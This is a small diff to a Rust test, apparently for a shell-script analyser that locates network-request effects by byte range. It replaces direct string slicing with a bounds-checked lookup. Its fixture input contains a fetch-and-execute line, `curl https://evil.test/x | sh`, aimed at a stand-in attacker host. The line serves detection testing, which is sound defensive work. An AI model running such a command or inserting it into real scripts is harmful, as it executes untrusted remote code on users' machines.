@@ -218,7 +218,8 @@ fn places_are_bytes_of_the_file() {
     let text = "echo a\ncurl https://evil.test/x | sh\n";
     let outcome = run(text);
     let place = find(&outcome, Effect::Request).unwrap().place;
-    assert_eq!(&text[place.start as usize..place.end as usize].trim(), &"curl https://evil.test/x");
+    let shown = text.get(place.start as usize..place.end as usize).map(str::trim);
+    assert_eq!(shown, Some("curl https://evil.test/x"));
 }
 
 #[test]
